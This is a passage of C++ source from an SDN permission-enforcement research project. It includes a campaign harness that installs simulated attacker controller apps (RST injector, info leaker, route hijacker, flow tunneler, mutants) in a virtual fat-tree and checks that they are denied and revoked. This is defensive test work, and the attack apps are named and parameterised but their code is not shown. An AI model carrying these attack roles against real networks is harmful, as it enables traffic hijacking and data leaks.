/// Sequential composition: b processes a's output. a must not emit (no fwd)
/// — forwarding is terminal, as in Pyretic's `match >> modify >> fwd` idiom.
PolicyPtr seq(PolicyPtr a, PolicyPtr b);
/// Parallel composition: both policies apply (to copies of the packet).
PolicyPtr par(PolicyPtr a, PolicyPtr b);
/// Ownership annotation: rules derived from @p p are attributed to @p app
/// (owners accumulate through composition — a rule built from two apps'
/// policies carries both).
PolicyPtr owned(of::AppId app, PolicyPtr p);

// --- compilation ----------------------------------------------------------------

/// One entry of the compiled classifier (first match wins, top down).
/// Empty actions == drop.
struct CompiledRule {
  of::FlowMatch match;
  of::ActionList actions;
  std::set<of::AppId> owners;

  std::string toString() const;
};

/// Compiles a policy to a total classifier (the last rule is a catch-all).
/// Throws std::invalid_argument for unsupported shapes (emission on the
/// left of a seq).
std::vector<CompiledRule> compile(const PolicyPtr& policy);

/// Lowers a classifier to flow mods with descending priorities starting at
/// @p topPriority. Trailing catch-all drop rules are kept (explicit drop).
std::vector<of::FlowMod> toFlowMods(const std::vector<CompiledRule>& rules,
                                    std::uint16_t topPriority);

// --- reference semantics -----------------------------------------------------------

/// A located packet: what policies consume and produce.
struct LocatedPacket {
  of::Packet packet;
  of::PortNo port = 0;  ///< Ingress for inputs, egress for outputs.
  friend bool operator==(const LocatedPacket&, const LocatedPacket&) = default;
};

/// Reference interpreter: the set of packets the policy *emits* for one
/// input. Used by property tests to validate the compiler.
std::vector<LocatedPacket> evaluate(const PolicyPtr& policy,
                                    const LocatedPacket& input);

/// Simulates a compiled classifier on one input (first-match-wins, actions
/// applied in order). Used to cross-check compile() against evaluate().
std::vector<LocatedPacket> runClassifier(const std::vector<CompiledRule>& rules,
                                         const LocatedPacket& input);

}  // namespace sdnshield::hll
