// The campaign's app population (DESIGN.md §13): one trusted service app
// that serves cbench load without ever flooding (fat-trees have loops; the
// stock routing app's flood-on-unknown would storm), benign tenant apps
// whose manifests scope them to their own switches, seed-mutated attacker
// variants with randomized flow predicates and API-call mixes, and an inert
// epoch sentinel whose grants the epoch-consistency oracle probes.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>
#include <vector>

#include "controller/api.h"

namespace sdnshield::campaign {

/// Datacenter routing service: installs shortest-path rules for known host
/// pairs on packet-in and releases the triggering packet. Unknown or non-IP
/// traffic is DROPPED, never flooded — on a loopy fabric a re-flooding
/// service app is a broadcast storm.
class DcRoutingApp final : public ctrl::App {
 public:
  std::string name() const override { return "dc_routing"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  std::uint64_t pathsInstalled() const { return paths_.load(); }
  std::uint64_t dropped() const { return dropped_.load(); }

 private:
  void onPacketIn(const ctrl::PacketInEvent& event);

  ctrl::AppContext* context_ = nullptr;
  std::atomic<std::uint64_t> paths_{0};
  std::atomic<std::uint64_t> dropped_{0};
};

/// A benign tenant: requests insert_flow scoped (by its own manifest) to
/// its assigned switches, and on every tick installs one of a small rotating
/// set of /32 rules on one of them. A correct engine never denies it; a
/// revoked tenant's rule count never grows again (the revoked-app-silence
/// oracle watches exactly that).
class TenantApp final : public ctrl::App {
 public:
  TenantApp(std::string name, std::vector<of::DatapathId> scope,
            std::uint8_t subnet);

  std::string name() const override { return name_; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  /// One benign flow installation; safe from any thread.
  void tick();

  const std::vector<of::DatapathId>& scope() const { return scope_; }
  std::uint64_t installed() const { return installed_.load(); }
  std::uint64_t denied() const { return denied_.load(); }
  std::uint64_t shed() const { return shed_.load(); }

 private:
  std::string name_;
  std::vector<of::DatapathId> scope_;
  std::uint8_t subnet_;
  ctrl::AppContext* context_ = nullptr;
  std::atomic<std::uint64_t> round_{0};
  std::atomic<std::uint64_t> installed_{0};
  std::atomic<std::uint64_t> denied_{0};
  std::atomic<std::uint64_t> shed_{0};
};

/// A seed-mutated attacker variant: ships an over-privileged manifest (the
/// market's policy truncates it) and each tick fires one call from a
/// seed-randomized mix — out-of-scope flow inserts with random predicates,
/// foreign-flow deletes, arbitrary packet-outs, statistics reads. The
/// denials it accrues are what the campaign operator revokes on.
class MutantApp final : public ctrl::App {
 public:
  MutantApp(std::string name, std::uint64_t seed,
            std::vector<of::DatapathId> targets);

  std::string name() const override { return name_; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  /// One seeded API call; safe from any thread (the mix stream is advanced
  /// under an internal counter, deterministically per tick index).
  void tick();

  std::uint64_t attempts() const { return attempts_.load(); }
  std::uint64_t denied() const { return denied_.load(); }
  std::uint64_t allowed() const { return allowed_.load(); }

 private:
  std::string name_;
  std::uint64_t seed_;
  std::vector<of::DatapathId> targets_;
  ctrl::AppContext* context_ = nullptr;
  std::atomic<std::uint64_t> ticks_{0};
  std::atomic<std::uint64_t> attempts_{0};
  std::atomic<std::uint64_t> denied_{0};
  std::atomic<std::uint64_t> allowed_{0};
};

/// Does nothing; exists so the epoch-consistency prober has an app whose
/// grant set the alternating policies reshape (MAX_PRIORITY 100 vs
/// MIN_PRIORITY 200 on insert_flow).
class EpochSentinelApp final : public ctrl::App {
 public:
  std::string name() const override { return "epoch_sentinel"; }
  std::string requestedManifest() const override {
    return "APP epoch_sentinel\nPERM insert_flow\n";
  }
  void init(ctrl::AppContext& context) override { (void)context; }
};

}  // namespace sdnshield::campaign
