#include "campaign/campaign.h"

#include <algorithm>
#include <atomic>
#include <map>
#include <memory>
#include <mutex>
#include <set>
#include <sstream>
#include <string_view>
#include <thread>

#include "apps/malicious/flow_tunneler.h"
#include "apps/malicious/info_leaker.h"
#include "apps/malicious/route_hijacker.h"
#include "apps/malicious/rst_injector.h"
#include "campaign/apps.h"
#include "campaign/topo_gen.h"
#include "cbench/generator.h"
#include "controller/controller.h"
#include "core/lang/policy_parser.h"
#include "core/perm/api_call.h"
#include "isolation/fault_injector.h"
#include "market/app_market.h"
#include "net/virtual_topology.h"
#include "obs/metrics.h"
#include "shard/shard_runtime.h"
#include "switchsim/sim_network.h"

namespace sdnshield::campaign {

namespace {

constexpr const char* kAttackerNames[] = {"rst_injector", "info_leaker",
                                          "route_hijacker", "flow_tunneler"};

/// The two alternating market policies. Both confine the sentinel's
/// insert_flow to a priority band (disjoint between the variants — the
/// epoch oracle's probe priorities 50 and 250 get opposite answers) and
/// bound every attacker and mutant to the paper's Scenario 1 read-mostly
/// grant; tenants and the routing service pass through untouched.
std::string policyText(std::size_t mutants, std::size_t variant) {
  std::ostringstream out;
  out << "LET sentinelBound = {\n"
      << "PERM insert_flow LIMITING "
      << (variant == 0 ? "MAX_PRIORITY 100" : "MIN_PRIORITY 200") << "\n"
      << "}\n"
      << "LET sentinelPerm = APP epoch_sentinel\n"
      << "ASSERT sentinelPerm <= sentinelBound\n"
      // The attacker bound keeps pod 0 of the live fat-tree visible (its
      // dpid layout is fixed: aggregation 1000x, edge 2000x) so the Table I
      // attack payloads run far enough to fire their write calls — which the
      // bound denies, which the audit log records, which the operator
      // revokes on. A blind attacker that bails at "no topology" would never
      // leave the forensic trail the containment loop keys off.
      << "LET attackerBound = {\n"
      << "PERM visible_topology LIMITING SWITCH {10000,10001,20000,20001}\n"
      << "PERM read_statistics\n"
      << "PERM network_access LIMITING IP_DST 10.99.0.0 MASK 255.255.0.0\n"
      << "}\n";
  std::size_t n = 0;
  for (const char* name : kAttackerNames) {
    out << "LET b" << n << " = APP " << name << "\n"
        << "ASSERT b" << n << " <= attackerBound\n";
    ++n;
  }
  for (std::size_t i = 0; i < mutants; ++i) {
    out << "LET m" << i << " = APP mutant_" << i << "\n"
        << "ASSERT m" << i << " <= attackerBound\n";
  }
  return out.str();
}

std::string hex64(std::uint64_t value) {
  std::ostringstream out;
  out << "0x" << std::hex << value;
  return out.str();
}

std::string jsonEscape(const std::string& text) {
  std::string out;
  for (char c : text) {
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (c == '\n') {
      out += "\\n";
    } else {
      out += c;
    }
  }
  return out;
}

/// Retries a market operation through injected market.* aborts. The storm
/// is probabilistic, so a handful of retries drains essentially every
/// transient abort; a final failure is reported to the caller.
template <typename Fn>
ctrl::ApiResult marketRetry(Fn&& fn, int attempts = 8) {
  ctrl::ApiResult result;
  for (int i = 0; i < attempts; ++i) {
    try {
      result = fn();
    } catch (const std::exception&) {
      result = ctrl::ApiResult::failure(ctrl::ApiErrc::kTransactionAborted);
    }
    if (result.ok() || result.code() != ctrl::ApiErrc::kTransactionAborted) {
      return result;
    }
  }
  return result;
}

struct LiveOutcome {
  std::vector<InvariantResult> invariants;
  std::vector<AttackerOutcome> attackers;
  // Measured extras.
  double baselineResponsesPerSec = 0;
  double campaignResponsesPerSec = 0;
  std::uint64_t auditDropped = 0;
  std::uint64_t quarantinedTotal = 0;
  std::string healthTimeline;
};

}  // namespace

Campaign::Campaign(CampaignConfig config) : config_(std::move(config)) {}

bool Scorecard::allInvariantsPass() const {
  return std::all_of(invariants.begin(), invariants.end(),
                     [](const InvariantResult& r) { return r.pass; });
}

std::string Scorecard::toJson() const {
  std::ostringstream out;
  out << "{\n"
      << "  \"schema\": \"campaign_scorecard_v1\",\n"
      << "  \"seed\": " << config.seed << ",\n"
      << "  \"config\": {"
      << "\"live_fat_tree_k\": " << config.liveFatTreeK
      << ", \"tenants\": " << config.tenants
      << ", \"extra_tenants\": " << config.extraTenants
      << ", \"mutants\": " << config.mutants
      << ", \"attackers\": " << (config.attackers ? "true" : "false")
      << ", \"steps\": " << config.steps << ", \"fault_probability_ppm\": "
      << static_cast<std::uint64_t>(config.faultProbability * 1e6)
      << ", \"audit_capacity\": " << config.auditCapacity
      << ", \"degradation_floor_pct\": "
      << static_cast<std::uint64_t>(config.degradationFloor * 100)
      << ", \"mega_fat_tree_k\": " << config.megaFatTreeK
      << ", \"mega_spines\": " << config.megaSpines
      << ", \"mega_leaves\": " << config.megaLeaves << "},\n"
      << "  \"plan_digest\": \"" << planDigest << "\",\n"
      << "  \"mega_topology\": {"
      << "\"fat_tree_switches\": " << fatTreeSwitches
      << ", \"leaf_spine_switches\": " << leafSpineSwitches
      << ", \"flap_events\": " << flapEvents
      << ", \"path_queries\": " << pathQueries
      << ", \"disconnected_paths\": " << disconnectedPaths
      << ", \"translations\": " << translations
      << ", \"rejected_translations\": " << rejectedTranslations
      << ", \"containment_violations\": 0},\n"
      << "  \"invariants\": [\n";
  for (std::size_t i = 0; i < invariants.size(); ++i) {
    const InvariantResult& inv = invariants[i];
    out << "    {\"name\": \"" << jsonEscape(inv.name) << "\", \"pass\": "
        << (inv.pass ? "true" : "false")
        << ", \"violations\": " << inv.violations << ", \"detail\": \""
        << jsonEscape(inv.detail) << "\"}"
        << (i + 1 < invariants.size() ? "," : "") << "\n";
  }
  out << "  ],\n  \"attackers\": [\n";
  for (std::size_t i = 0; i < attackers.size(); ++i) {
    out << "    {\"name\": \"" << jsonEscape(attackers[i].name)
        << "\", \"contained\": " << (attackers[i].contained ? "true" : "false")
        << "}" << (i + 1 < attackers.size() ? "," : "") << "\n";
  }
  out << "  ]";
  if (!measuredJson.empty()) {
    out << ",\n  \"measured\": " << measuredJson;
  }
  out << "\n}\n";
  return out.str();
}

namespace {

// --- Phase A: mega-topology churn oracles (pure computation) ---------------------

void runMegaPhase(const CampaignConfig& config, Scorecard& card,
                  std::uint64_t& digest) {
  struct MegaFabric {
    Fabric fabric;
    std::vector<FlapEvent> schedule;
  };
  MegaFabric fat{buildFatTree(config.megaFatTreeK), {}};
  MegaFabric leaf{buildLeafSpine(config.megaSpines, config.megaLeaves), {}};
  attachHosts(fat.fabric, 1);
  attachHosts(leaf.fabric, 1);
  card.fatTreeSwitches = fat.fabric.topology.switchCount();
  card.leafSpineSwitches = leaf.fabric.topology.switchCount();

  std::uint64_t scheduleSeed = config.seed ^ 0x51ab9ef2d03c7e64ULL;
  fat.schedule = buildFlapSchedule(fat.fabric, scheduleSeed, config.megaSteps,
                                   config.megaFlaps, config.megaDisconnects);
  leaf.schedule =
      buildFlapSchedule(leaf.fabric, scheduleSeed + 1, config.megaSteps,
                        config.megaFlaps, config.megaDisconnects);
  card.flapEvents = fat.schedule.size() + leaf.schedule.size();
  for (const FlapEvent& event : fat.schedule) {
    digest = fnv1a(digest, event.toString());
  }
  for (const FlapEvent& event : leaf.schedule) {
    digest = fnv1a(digest, event.toString());
  }

  // Virtual tenants: each fat-tree pod is one tenant whose big switch is
  // built over the pod-RESTRICTED physical view — the construction that
  // makes cross-tenant leakage structurally impossible, which the oracle
  // re-verifies on every translated rule.
  std::uint64_t containment = 0;
  std::uint64_t rng = config.seed ^ 0x1c69b3f74ad02e85ULL;
  for (std::size_t step = 0; step < config.megaSteps; ++step) {
    applyFlapStep(fat.fabric, fat.schedule, step);
    applyFlapStep(leaf.fabric, leaf.schedule, step);

    for (MegaFabric* mega : {&fat, &leaf}) {
      const std::vector<net::DatapathId>& edges = mega->fabric.edge;
      for (std::size_t q = 0; q < config.megaQueriesPerStep; ++q) {
        net::DatapathId from = edges[nextRandom(rng) % edges.size()];
        net::DatapathId to = edges[nextRandom(rng) % edges.size()];
        ++card.pathQueries;
        if (!mega->fabric.topology.shortestPath(from, to)) {
          ++card.disconnectedPaths;
        }
      }
    }

    for (const std::vector<net::DatapathId>& pod : fat.fabric.pods) {
      // Tenant slice: the pod's edge switches plus their in-pod aggregation
      // layer (derivable from the dpid layout: same pod block).
      std::set<net::DatapathId> members(pod.begin(), pod.end());
      for (net::DatapathId edge : pod) {
        members.insert(edge - 10000);  // Matching aggregation dpid.
      }
      std::set<net::DatapathId> present;
      for (net::DatapathId dpid : members) {
        if (fat.fabric.topology.hasSwitch(dpid)) present.insert(dpid);
      }
      net::Topology slice = fat.fabric.topology.restrictTo(present);
      if (slice.hosts().size() < 2) continue;
      net::VirtualTopology vtopo =
          net::VirtualTopology::bigSwitch(slice, present, 1);
      const auto& vports = vtopo.virtualSwitch().ports;
      if (vports.size() < 2) continue;
      of::FlowMod vmod;
      vmod.command = of::FlowModCommand::kAdd;
      vmod.match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
      vmod.match.inPort = vports[nextRandom(rng) % vports.size()].virtualPort;
      vmod.match.ipDst = of::MaskedIpv4{of::Ipv4Address(
          10, static_cast<std::uint8_t>(nextRandom(rng)),
          static_cast<std::uint8_t>(nextRandom(rng)), 1)};
      vmod.priority = 100;
      vmod.actions.push_back(of::OutputAction{
          vports[nextRandom(rng) % vports.size()].virtualPort});
      ++card.translations;
      try {
        auto pmods = vtopo.translateFlowMod(vmod);
        for (const auto& [dpid, mod] : pmods) {
          if (present.count(dpid) == 0) ++containment;
        }
      } catch (const std::invalid_argument&) {
        // Partitioned slice (the flap scheduler's doing): translation is
        // expected to refuse, never to route around through another tenant.
        ++card.rejectedTranslations;
      }
    }
  }

  card.invariants.push_back(
      {"mega_tenant_containment", containment == 0, containment,
       "every translated physical rule lands inside its tenant slice"});
}

// --- Phase B: live market under storm --------------------------------------------

struct Member {
  of::AppId id = 0;
  std::string name;
  enum class Kind { kService, kSentinel, kTenant, kAttacker, kMutant } kind;
  std::shared_ptr<ctrl::App> app;
  std::vector<of::DatapathId> scope;  ///< Tenants only.
};

LiveOutcome runLivePhase(const CampaignConfig& config, const CampaignPlan& plan,
                         std::uint64_t& digest) {
  LiveOutcome outcome;

  Fabric live = buildFatTree(config.liveFatTreeK);
  ctrl::Controller controller;
  controller.audit().setCapacity(config.auditCapacity);
  // The sharded substrate, when asked for: dispatch + FlowTable mirrors +
  // memo domains split across config.shards loops. The scorecard carries no
  // shard field on purpose — any shard count must reproduce it byte for
  // byte (CI cmp's shards=1 against shards=4).
  shard::ShardRuntime shardRuntime([&] {
    shard::ShardOptions shardOptions;
    shardOptions.shards = config.shards;
    return shardOptions;
  }());
  shardRuntime.start();
  shardRuntime.attach(controller);
  sim::SimNetwork net(controller);
  for (net::DatapathId dpid : live.topology.switches()) {
    net.addSwitch(dpid);
    // Registration goes through the canonical attachSwitch seam; the
    // descriptor must be queryable and name the in-process transport.
    auto info = controller.connectionInfo(dpid);
    if (!info || info->transport != "sim") {
      throw std::logic_error("campaign: switch attached without sim descriptor");
    }
  }
  for (const net::Link& link : live.topology.links()) {
    net.link(link.a.dpid, link.a.port, link.b.dpid, link.b.port);
  }
  // One measurable host (port 1) per edge switch; cbench adds its probe
  // hosts (port 4) in setup().
  std::size_t hostIndex = 1;
  for (net::DatapathId dpid : live.edge) {
    net.addHost(dpid, 1, of::MacAddress::fromUint64(0x0100000000ULL + hostIndex),
                of::Ipv4Address(10, 0, static_cast<std::uint8_t>(hostIndex >> 8),
                                static_cast<std::uint8_t>(hostIndex & 0xff)));
    ++hostIndex;
  }

  iso::ShieldOptions options;
  options.ksdThreads = 4;
  // The storm is the supervisor's nightmare diet: every app (including the
  // benign ones) eats injected faults. The campaign's containment story is
  // the market operator revoking on audited DENIALS, so the watchdog is
  // parked far out of the way rather than disabled (its health/timeline
  // stays observable in --measured runs).
  options.supervisor.faultSuspectThreshold = 1u << 30;
  options.supervisor.faultQuarantineThreshold = 1u << 30;
  options.supervisor.dropQuarantineThreshold = 1u << 30;
  options.supervisor.taskDeadline = std::chrono::milliseconds(60000);
  options.supervisor.taskHangDeadline = std::chrono::milliseconds(120000);
  iso::ShieldRuntime shield(controller, options);
  shardRuntime.attachEngine(shield.engine());

  lang::PolicyProgram initialPolicy =
      lang::parsePolicy(policyText(config.mutants, 0));
  market::AppMarket market(shield, initialPolicy);

  // --- population ---------------------------------------------------------
  std::vector<Member> members;
  auto install = [&](std::shared_ptr<ctrl::App> app, Member::Kind kind,
                     std::vector<of::DatapathId> scope = {}) -> of::AppId {
    auto response = market.installApp(app, 1);
    if (!response.ok()) return 0;
    members.push_back(Member{response.value(), app->name(), kind,
                             std::move(app), std::move(scope)});
    return members.back().id;
  };

  std::size_t tenantSlots = config.tenants + config.extraTenants;
  auto tenantScope = [&](std::size_t index) {
    std::vector<of::DatapathId> scope;
    for (std::size_t j = index; j < live.edge.size(); j += tenantSlots) {
      scope.push_back(live.edge[j]);
    }
    if (scope.empty()) scope.push_back(live.edge[index % live.edge.size()]);
    return scope;
  };
  auto makeTenant = [&](std::size_t index) {
    return std::make_shared<TenantApp>(
        "tenant_" + std::to_string(index), tenantScope(index),
        static_cast<std::uint8_t>(index & 0x3f));
  };
  auto makeMutant = [&](std::size_t index) {
    return std::make_shared<MutantApp>("mutant_" + std::to_string(index),
                                       plan.mutantSeeds[index], live.edge);
  };
  auto makeAttacker = [&](const std::string& name) -> std::shared_ptr<ctrl::App> {
    if (name == "rst_injector") {
      return std::make_shared<apps::RstInjectorApp>(80);
    }
    if (name == "info_leaker") {
      return std::make_shared<apps::InfoLeakerApp>(of::Ipv4Address(10, 66, 6, 6),
                                                   4444);
    }
    if (name == "route_hijacker") {
      // Victim and "attacker-controlled" host are both real pod-0 hosts, so
      // the hijack proceeds to its (denied, audited) flow inserts.
      return std::make_shared<apps::RouteHijackerApp>(
          of::Ipv4Address(10, 0, 0, 1), of::Ipv4Address(10, 0, 0, 2));
    }
    return std::make_shared<apps::FlowTunnelerApp>(23, 80);
  };

  of::AppId serviceId = install(std::make_shared<DcRoutingApp>(),
                                Member::Kind::kService);
  of::AppId sentinelId = install(std::make_shared<EpochSentinelApp>(),
                                 Member::Kind::kSentinel);
  for (std::size_t i = 0; i < config.tenants; ++i) {
    install(makeTenant(i), Member::Kind::kTenant, tenantScope(i));
  }
  if (config.attackers) {
    for (const char* name : kAttackerNames) {
      install(makeAttacker(name), Member::Kind::kAttacker);
    }
  }
  for (std::size_t i = 0; i < config.mutants; ++i) {
    install(makeMutant(i), Member::Kind::kMutant);
  }
  for (const Member& member : members) {
    digest = fnv1a(digest, member.name + "#" + std::to_string(member.id));
  }

  // Operator: watches the audit log for permission denials and revokes the
  // offender through the market — the paper's containment loop, driven by
  // forensics instead of supervisor heuristics.
  std::map<of::AppId, std::uint64_t> denialTally;
  std::uint64_t lastAuditSeq = 0;
  auto operatorSweep = [&] {
    for (const engine::AuditEntry& entry : controller.audit().entries()) {
      if (entry.sequence < lastAuditSeq) continue;
      lastAuditSeq = entry.sequence + 1;
      if (entry.kind != engine::AuditKind::kApiCall || entry.allowed) continue;
      ++denialTally[entry.app];
    }
    for (const auto& [app, denials] : denialTally) {
      if (denials < config.denialThreshold) continue;
      if (app == serviceId || app == sentinelId) continue;
      auto entry = market.entry(app);
      if (!entry || entry->state == market::AppState::kRevoked) continue;
      marketRetry([&] {
        return market.revokeApp(app, "campaign operator: audited denials");
      });
    }
  };
  // Install-time denials (an attacker probing a subscription it was never
  // granted) must be swept before load floods the bounded audit ring and
  // evicts them.
  operatorSweep();

  // --- baseline throughput (no storm, attackers dormant) ------------------
  cbench::Generator generator(net);
  generator.setup();
  generator.setRoundRetry(
      {.maxRetries = 2,
       .initialBackoff = std::chrono::milliseconds(1),
       .backoffMultiplier = 2.0});
  // A storm-faulted round should cost one short deadline plus a retried
  // round, not the 200ms default — otherwise measured "degradation" is
  // mostly the harness waiting, not the stack degrading.
  generator.setRoundTimeout(std::chrono::milliseconds(10));
  auto baseline =
      generator.runThroughput(std::chrono::milliseconds(config.measureMs));
  outcome.baselineResponsesPerSec = baseline.responsesPerSec;

  // --- arm the storm ------------------------------------------------------
  iso::FaultInjector& injector = iso::FaultInjector::instance();
  injector.reset();
  if (config.faultProbability > 0) {
    using Fault = iso::FaultInjector::Fault;
    for (std::string_view site :
         {iso::sites::kContainerTask, iso::sites::kContainerPost,
          iso::sites::kKsdCall, iso::sites::kKsdTask,
          iso::sites::kMarketReconcile, iso::sites::kMarketSwap,
          iso::sites::kMarketJournal}) {
      injector.armProbabilistic(site, Fault::kThrow, config.faultProbability,
                                config.seed);
    }
    injector.armProbabilistic(iso::sites::kKsdQueue, Fault::kQueueFull,
                              config.faultProbability, config.seed);
  }

  // --- concurrent machinery ----------------------------------------------
  std::atomic<bool> stop{false};

  // Load: continuous cbench pressure; total responses during the campaign
  // give the degradation measurement.
  std::atomic<std::uint64_t> campaignResponses{0};
  std::atomic<std::uint64_t> campaignMillis{0};
  std::thread loadThread([&] {
    while (!stop.load()) {
      auto stats =
          generator.runThroughput(std::chrono::milliseconds(100));
      campaignResponses.fetch_add(stats.totalResponses);
      campaignMillis.fetch_add(
          static_cast<std::uint64_t>(stats.durationSec * 1000));
    }
  });

  // Epoch-consistency prober: under ANY single policy epoch the sentinel's
  // insert_flow band answers exactly one of (allow,deny)/(deny,allow) for
  // priorities 50/250 — (allow,allow) and (deny,deny) both mean a torn
  // grant set was observed.
  std::atomic<std::uint64_t> epochProbes{0};
  std::atomic<std::uint64_t> epochViolations{0};
  std::thread proberThread([&] {
    of::FlowMod lowMod;
    lowMod.command = of::FlowModCommand::kAdd;
    lowMod.priority = 50;
    lowMod.actions.push_back(of::OutputAction{1});
    of::FlowMod highMod = lowMod;
    highMod.priority = 250;
    of::DatapathId probeDpid = live.edge.front();
    while (!stop.load()) {
      std::uint64_t before = shield.engine().epoch();
      bool low = shield.engine()
                     .check(perm::ApiCall::insertFlow(sentinelId, probeDpid,
                                                      lowMod))
                     .allowed;
      bool high = shield.engine()
                      .check(perm::ApiCall::insertFlow(sentinelId, probeDpid,
                                                       highMod))
                      .allowed;
      if (shield.engine().epoch() == before) {
        epochProbes.fetch_add(1);
        if (low == high) epochViolations.fetch_add(1);
      }
      std::this_thread::sleep_for(std::chrono::microseconds(200));
    }
  });

  std::mutex operatorMutex;
  std::thread operatorThread([&] {
    while (!stop.load()) {
      {
        std::lock_guard lock(operatorMutex);
        operatorSweep();
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
  });

  // --- churn loop (this thread) -------------------------------------------
  // Every drive call runs INSIDE the member's thread container (postAndWait),
  // so host-system calls carry the right app identity and injected
  // container faults land on the app, exactly as production tasks would. A
  // revoked/quarantined member simply has no container any more.
  auto tickAll = [&] {
    for (Member& member : members) {
      auto container = shield.container(member.id);
      if (!container || container->quarantined()) continue;
      std::function<void()> drive;
      switch (member.kind) {
        case Member::Kind::kTenant: {
          auto tenant = std::static_pointer_cast<TenantApp>(member.app);
          drive = [tenant] { tenant->tick(); };
          break;
        }
        case Member::Kind::kMutant: {
          auto mutant = std::static_pointer_cast<MutantApp>(member.app);
          drive = [mutant] { mutant->tick(); };
          break;
        }
        case Member::Kind::kAttacker:
          if (member.name == "info_leaker") {
            auto app = std::static_pointer_cast<apps::InfoLeakerApp>(member.app);
            drive = [app] { app->leak(); };
          } else if (member.name == "route_hijacker") {
            auto app =
                std::static_pointer_cast<apps::RouteHijackerApp>(member.app);
            drive = [app] { app->hijack(); };
          } else if (member.name == "flow_tunneler") {
            auto app =
                std::static_pointer_cast<apps::FlowTunnelerApp>(member.app);
            drive = [app] {
              app->establishTunnel(of::Ipv4Address(10, 0, 0, 1),
                                   of::Ipv4Address(10, 0, 0, 2));
            };
          }
          break;
        default:
          break;
      }
      if (drive) container->postAndWait(std::move(drive));
    }
  };

  std::map<std::size_t, of::AppId> tenantIds;  // initial tenant index -> id
  for (const Member& member : members) {
    if (member.kind != Member::Kind::kTenant) continue;
    for (std::size_t i = 0; i < config.tenants; ++i) {
      if (member.name == "tenant_" + std::to_string(i)) tenantIds[i] = member.id;
    }
  }

  of::AppId revokedTenantId = tenantIds[plan.revokedTenant];
  std::size_t planCursor = 0;
  for (std::size_t step = 0; step < config.steps; ++step) {
    while (planCursor < plan.ops.size() && plan.ops[planCursor].step <= step) {
      const MarketOp& op = plan.ops[planCursor++];
      switch (op.kind) {
        case MarketOp::Kind::kUpdatePolicy:
          marketRetry([&] {
            return market.updatePolicy(
                policyText(config.mutants, op.index));
          });
          break;
        case MarketOp::Kind::kInstallTenant: {
          std::size_t index = config.tenants + op.index;
          auto tenant = std::make_shared<TenantApp>(
              "tenant_" + std::to_string(index), tenantScope(index),
              static_cast<std::uint8_t>(index & 0x3f));
          marketRetry([&]() -> ctrl::ApiResult {
            auto response = market.installApp(tenant, 1);
            if (response.ok()) {
              members.push_back(Member{response.value(), tenant->name(),
                                       Member::Kind::kTenant, tenant,
                                       tenantScope(index)});
              return ctrl::ApiResult::success();
            }
            return ctrl::ApiResult::failure(response.error());
          });
          break;
        }
        case MarketOp::Kind::kUpgradeTenant: {
          of::AppId id = tenantIds[op.index];
          auto next = makeTenant(op.index);
          marketRetry([&]() -> ctrl::ApiResult {
            ctrl::ApiResult result = market.upgradeApp(id, next, 2);
            if (result.ok()) {
              for (Member& member : members) {
                if (member.id == id) member.app = next;
              }
            }
            return result;
          });
          break;
        }
        case MarketOp::Kind::kUninstallTenant:
          marketRetry([&] { return market.uninstallApp(tenantIds[op.index]); });
          break;
        case MarketOp::Kind::kRevokeTenant:
          marketRetry([&] {
            return market.revokeApp(revokedTenantId,
                                    "campaign plan: scheduled revocation");
          });
          break;
      }
    }
    tickAll();
    std::this_thread::sleep_for(std::chrono::milliseconds(config.stepMs));
  }

  // --- quiesce ------------------------------------------------------------
  stop.store(true);
  loadThread.join();
  proberThread.join();
  operatorThread.join();
  injector.reset();
  // Final sweep with the storm gone: any denial evidence accrued in the
  // last scan interval still gets its revocation.
  {
    std::lock_guard lock(operatorMutex);
    operatorSweep();
  }

  double campaignSeconds =
      static_cast<double>(campaignMillis.load()) / 1000.0;
  outcome.campaignResponsesPerSec =
      campaignSeconds > 0
          ? static_cast<double>(campaignResponses.load()) / campaignSeconds
          : 0;

  // --- revoked-app silence oracle -----------------------------------------
  auto ownedRules = [&](of::AppId app) {
    std::uint64_t total = 0;
    for (net::DatapathId dpid : live.topology.switches()) {
      total += controller.ownership().countFor(app, dpid);
    }
    return total;
  };
  std::map<of::AppId, std::uint64_t> revokedSnapshot;
  for (const Member& member : members) {
    auto entry = market.entry(member.id);
    if (entry && entry->state == market::AppState::kRevoked) {
      revokedSnapshot[member.id] = ownedRules(member.id);
    }
  }
  // Poke every revoked app hard, post-revocation: none of these calls may
  // add a rule.
  for (int i = 0; i < 5; ++i) tickAll();
  std::uint64_t silenceViolations = 0;
  for (const auto& [app, rulesBefore] : revokedSnapshot) {
    if (ownedRules(app) > rulesBefore) ++silenceViolations;
  }
  outcome.invariants.push_back(
      {"revoked_app_silence", silenceViolations == 0, silenceViolations,
       "no flow-mod from a revoked app reaches a switch"});

  // --- cross-tenant leakage oracle ----------------------------------------
  std::uint64_t leakViolations = 0;
  for (const Member& member : members) {
    if (member.kind != Member::Kind::kTenant) continue;
    std::set<net::DatapathId> scope(member.scope.begin(), member.scope.end());
    for (net::DatapathId dpid : live.topology.switches()) {
      if (scope.count(dpid) != 0) continue;
      leakViolations += controller.ownership().countFor(member.id, dpid);
    }
  }
  outcome.invariants.push_back(
      {"cross_tenant_leakage", leakViolations == 0, leakViolations,
       "every tenant-owned rule sits on that tenant's switches"});

  // --- epoch-consistency oracle -------------------------------------------
  std::uint64_t torn = epochViolations.load();
  outcome.invariants.push_back(
      {"epoch_consistency", torn == 0, torn,
       "every observed grant set belongs to exactly one epoch"});
  digest = fnv1a(digest, "epoch_probes_ran");
  (void)epochProbes;

  // --- attacker containment -----------------------------------------------
  std::uint64_t uncontained = 0;
  for (const Member& member : members) {
    if (member.kind != Member::Kind::kAttacker &&
        member.kind != Member::Kind::kMutant) {
      continue;
    }
    auto entry = market.entry(member.id);
    bool contained = !entry || entry->state == market::AppState::kRevoked ||
                     shield.isQuarantined(member.id);
    if (!contained) ++uncontained;
    outcome.attackers.push_back({member.name, contained});
  }
  if (config.attackers || config.mutants > 0) {
    outcome.invariants.push_back(
        {"attacker_containment", uncontained == 0, uncontained,
         "every attacker and mutant ends revoked or quarantined"});
  }

  // --- graceful degradation -----------------------------------------------
  bool degradationOk =
      outcome.campaignResponsesPerSec >=
